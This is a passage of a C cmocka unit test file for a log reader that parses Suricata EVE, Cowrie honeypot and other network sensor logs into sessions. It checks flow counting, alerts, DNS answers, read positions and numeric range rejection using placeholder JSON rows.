    struct log_options options = {0};
    uint64_t digest;

    (void)state;
    read_good("cowrie", COWRIE_BEGIN, &options);
    options.start = result.position;
    digest = result.digest;
    read_good("cowrie", COWRIE_BEGIN COWRIE_LOGIN, &options);
    assert_int_equal(result.count, 1);
    assert_int_equal(result.counts.unsupported, 0);
    assert_cowrie_login(&result.packets[0]);
    assert_true(result.digest != digest);
    assert_int_equal(result.position.line, 3);
}

/* A row of the flow `id`, at second `second` of the minute. */
#define EVE(second, type, id, rest)                                                            \
    "{\"timestamp\":\"2024-05-08T00:00:" second ".000000+0000\",\"event_type\":\"" type        \
    "\",\"flow_id\":" id ",\"src_ip\":\"192.0.2.1\",\"src_port\":4000,\"dest_ip\":"            \
    "\"203.0.113.9\",\"dest_port\":80,\"proto\":\"TCP\"" rest "}\n"
#define EVE_FLOW(second, id, alerted)                                                          \
    EVE(second, "flow", id,                                                                    \
        ",\"flow\":{\"pkts_toserver\":5,\"pkts_toclient\":4,\"state\":\"closed\","             \
        "\"alerted\":" alerted "}")
#define EVE_HEAD                                                                               \
    EVE("01", "http", "11",                                                                    \
        ",\"http\":{\"hostname\":\"h\",\"url\":\"/a\",\"http_method\":\"HEAD\"}")              \
    EVE("02", "fileinfo", "11", "")                                                            \
    EVE("03", "alert", "12", ",\"alert\":{\"signature\":\"S\"}")                               \
    EVE("04", "tls", "12", "") EVE("05", "ssh", "13", ",\"app_proto\":\"ssh\"")
#define EVE_REST                                                                               \
    EVE_FLOW("06", "12", "true")                                                               \
    EVE_FLOW("07", "11", "false")                                                              \
    EVE("08", "http", "14", "") EVE_FLOW("09", "14", "false") EVE_FLOW("10", "13", "false")

static void a_suricata_log_without_flows_has_a_session_for_each_connection(void **state)
{
    (void)state;
    read_good("suricata-eve",
              EVE_HEAD
              "{\"timestamp\":\"2024-05-08T00:01:00.000000+0000\",\"event_type\":"
              "\"anomaly\",\"src_ip\":\"192.0.2.7\",\"dest_ip\":\"203.0.113.9\"}\n"
              "{\"timestamp\":\"2024-05-08T00:01:00.000000+0000\",\"event_type\":"
              "\"fileinfo\",\"flow_id\":15,\"src_ip\":\"203.0.113.9\",\"src_port\":443,"
              "\"dest_ip\":\"192.0.2.8\",\"dest_port\":5000,\"proto\":\"TCP\"}\n",
              &plain);
    assert_int_equal(result.count, 4);
    assert_int_equal(result.counts.unsupported, 3);
    assert_int_equal(result.packets[0].time_ns, 1715126401 * SECOND);
    assert_string_equal(nj_intern_text(names, result.packets[0].rule), "log:suricata-eve");
    assert_string_equal(nj_intern_text(names, result.packets[0].app), "http");
    assert_true(result.packets[0].answered);
    assert_string_equal(nj_intern_text(names, result.packets[1].rule), "alert:S");
    assert_string_equal(nj_intern_text(names, result.packets[2].app), "ssh");
    /* a file goes from the server to its client */
    assert_string_equal(text_of(result.packets[3].src), "192.0.2.8");
    assert_int_equal(result.packets[3].sport, 5000);
    assert_int_equal(result.packets[3].dport, 443);
}

static void a_suricata_flow_is_not_counted_beside_what_was_read_of_it(void **state)
{
    (void)state;
    read_good("suricata-eve", EVE_HEAD EVE_REST, &plain);
    assert_int_equal(result.count, 4); /* 11, 12, 13 as above; 14 as its flow */
    assert_int_equal(result.packets[3].time_ns, 1715126409 * SECOND);
    assert_int_equal(result.packets[3].row_packets, 5);
    assert_int_equal(result.counts.unsupported, 6);
    /* the same in two readings, wherever they part */
    check_growth(EVE_HEAD EVE_REST, strlen(EVE_HEAD), 3, 4);
    check_growth(EVE_HEAD EVE_REST, strlen(EVE_HEAD EVE_FLOW("06", "12", "true")), 3, 4);
    assert_int_equal(result.counts.unsupported, 3);
    assert_int_equal(result.position.line, 10);
    /* what stood in was read before its line end came */
    check_growth(EVE("01", "http", "11", "") EVE_FLOW("02", "11", "false"),
                 strlen(EVE("01", "http", "11", "")) - 1, 1, 1);
    assert_int_equal(result.counts.unsupported, 1);
}

#define EVE_DNS(second, id, src, sport, dst, dport, type)                                      \
    "{\"timestamp\":\"2024-05-08T00:00:" second ".000000+0000\",\"event_type\":\"dns\","       \
    "\"flow_id\":" id ",\"src_ip\":\"" src "\",\"src_port\":" sport ",\"dest_ip\":\"" dst      \
    "\",\"dest_port\":" dport ",\"proto\":\"UDP\",\"dns\":{\"type\":\"" type "\"}}\n"
#define EVE_QUERY(second, id)                                                                  \
    EVE_DNS(second, id, "192.0.2.1", "4000", "203.0.113.9", "53", "query")
#define EVE_ANSWER(second, id)                                                                 \
    EVE_DNS(second, id, "192.0.2.1", "4000", "203.0.113.9", "53", "answer")

static void what_stands_in_for_a_udp_flow_can_not_tell_of_its_answer(void **state)
{
    (void)state;
    read_good("suricata-eve",
              EVE_QUERY("01", "21") EVE_ANSWER("02", "21") EVE_ANSWER("03", "22")
                  EVE("04", "http", "23", "") EVE("05", "drop", "24", "")
                      EVE_FLOW("06", "25", "false"),
              &plain);
    assert_int_equal(result.count, 5);
    assert_true(result.packets[0].untold);
    assert_false(result.packets[0].answered);
    for (size_t i = 1; i < 5; i++) {
        assert_false(result.packets[i].untold);
        assert_int_equal(result.packets[i].answered, i != 3);
    }
}

static void a_suricata_alert_is_a_session_beside_what_has_stood_in(void **state)
{
    (void)state;
    read_good("suricata-eve",
              EVE("01", "http", "31", "")
                  EVE("02", "alert", "31", ",\"alert\":{\"signature\":\"S\"}")
                      EVE("03", "alert", "32", ",\"alert\":{\"signature\":\"T\"}")
                          EVE("04", "http", "32", ""),
              &plain);
    assert_int_equal(result.count, 3);
    assert_string_equal(nj_intern_text(names, result.packets[1].rule), "alert:S");
    assert_string_equal(nj_intern_text(names, result.packets[2].rule), "alert:T");
}

static void numbers_beyond_64_bits_with_sign_are_rejected(void **state)
{
    (void)state;
    assert_int_equal(read_with("-- name: own\n-- about: x\n-- read: lines\n"
                               "SELECT n, make_timestamp(0) AS ts, '192.0.2.1' AS src,"
                               " line::UBIGINT AS packets FROM rows",
                               "7\n18446744073709551615\n"),
                     LOG_END);
    assert_int_equal(result.count, 1);
    assert_int_equal(result.packets[0].row_packets, 7);
    assert_reject(0, 2, "packets is 18446744073709551615, expected 0 to 9223372036854775807");
}

static int make_names(void **state)
{
    (void)state;
    names = nj_intern_new(10000);
    return names == NULL ? -1 : 0;
}

static int free_names(void **state)
{
    (void)state;
    nj_intern_free(names);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(aws_rows_keep_order_and_duplicates),
        cmocka_unit_test(aws_variant_with_places_is_read_too),
        cmocka_unit_test(ufw_row_is_a_packet_with_its_fields),
        cmocka_unit_test(ufw_reads_icmp_with_quote_ipv6_other_protocols_and_outgoing),
        cmocka_unit_test(lines_of_other_programs_are_counted_unsupported),
        cmocka_unit_test(year_goes_on_from_december_to_january),
        cmocka_unit_test(times_without_a_year_have_fractions_and_leap_seconds),
        cmocka_unit_test(years_go_on_behind_the_log_that_stood_there_before),
        cmocka_unit_test(times_without_a_year_need_one_and_others_do_not),
        cmocka_unit_test(zone_applies_to_times_that_name_none),
        cmocka_unit_test(zone_applies_to_logs_of_honeypots_too),
        cmocka_unit_test(zeek_unset_fields_are_unknown),
        cmocka_unit_test(zeek_json_says_the_same),
        cmocka_unit_test(zeek_header_may_change_on_the_way),
        cmocka_unit_test(bad_json_lines_are_rejected_one_by_one),
        cmocka_unit_test(csv_takes_the_usual_names_and_times),
        cmocka_unit_test(a_country_is_a_code_of_two_letters_or_none),
        cmocka_unit_test(csv_cells_may_look_as_other_programs_write_them),
        cmocka_unit_test(cells_may_say_that_they_hold_nothing),
        cmocka_unit_test(names_of_columns_may_hold_delimiters_in_quotes),
        cmocka_unit_test(kernel_rows_without_a_transport_header_say_so),
        cmocka_unit_test(values_of_fields_may_stand_in_quotes),
        cmocka_unit_test(rejected_rows_come_with_line_and_reason),
        cmocka_unit_test(rows_of_times_that_no_packet_has_are_rejected),
        cmocka_unit_test(unknown_input_and_missing_columns_are_refused),
        cmocka_unit_test(order_is_kept_over_batches_and_each_row_is_counted),
        cmocka_unit_test(position_and_digest_meet_at_the_end_of_a_batch),
        cmocka_unit_test(grown_file_goes_on_behind_what_was_read),
        cmocka_unit_test(half_a_line_that_stands_there_at_the_opening_waits_too),
        cmocka_unit_test(row_that_grew_after_it_was_read_is_rejected),
        cmocka_unit_test(shrunken_file_is_refused),
        cmocka_unit_test(bytes_that_are_no_text_become_question_marks),
        cmocka_unit_test(overlong_line_costs_itself_only),
        cmocka_unit_test(damaged_compression_is_used_up_to_there),
        cmocka_unit_test(row_that_the_engine_refuses_is_found),
        cmocka_unit_test(select_that_loses_the_order_is_refused),
        cmocka_unit_test(select_is_checked_when_the_log_is_opened),
        cmocka_unit_test(format_names_class_and_rule),
        cmocka_unit_test(every_field_is_documented),
        cmocka_unit_test(documented_example_reads_its_log),
        cmocka_unit_test(a_format_is_read_to_its_end_and_no_further),
        cmocka_unit_test(each_format_is_found_by_content_and_maps_its_row),
        cmocka_unit_test(dionaeas_names_of_services_become_those_of_applications),
        cmocka_unit_test(what_leaves_the_sensor_is_its_own),
        cmocka_unit_test(lines_may_end_in_a_carriage_return_alone),
        cmocka_unit_test(csv_may_name_its_separator_in_the_first_line),
        cmocka_unit_test(csv_may_have_blanks_between_its_cells),
        cmocka_unit_test(times_with_words_and_odd_zones_are_read),
        cmocka_unit_test(a_time_with_words_is_in_the_zone_that_is_said),
        cmocka_unit_test(json_may_stand_behind_a_syslog_head),
        cmocka_unit_test(a_log_that_is_named_may_have_its_json_behind_a_head),
        cmocka_unit_test(lines_of_other_programs_between_json_are_unsupported),
        cmocka_unit_test(a_web_request_comes_as_payload),
        cmocka_unit_test(zeek_rows_without_a_state_tell_of_answers_by_what_they_have),
        cmocka_unit_test(what_an_unknown_log_looks_like_is_said),
        cmocka_unit_test(rows_of_zeeks_other_logs_are_left_out_where_they_say_so),
        cmocka_unit_test(other_logs_of_zeek_are_not_taken_for_connections),
        cmocka_unit_test(later_rows_of_a_cowrie_session_know_its_ports_and_client),
        cmocka_unit_test(grown_cowrie_log_still_knows_what_was_read_before),
        cmocka_unit_test(a_suricata_log_without_flows_has_a_session_for_each_connection),
        cmocka_unit_test(a_suricata_flow_is_not_counted_beside_what_was_read_of_it),
        cmocka_unit_test(what_stands_in_for_a_udp_flow_can_not_tell_of_its_answer),
        cmocka_unit_test(a_suricata_alert_is_a_session_beside_what_has_stood_in),
        cmocka_unit_test(numbers_beyond_64_bits_with_sign_are_rejected),
    };

    return cmocka_run_group_tests(tests, make_names, free_names);
}
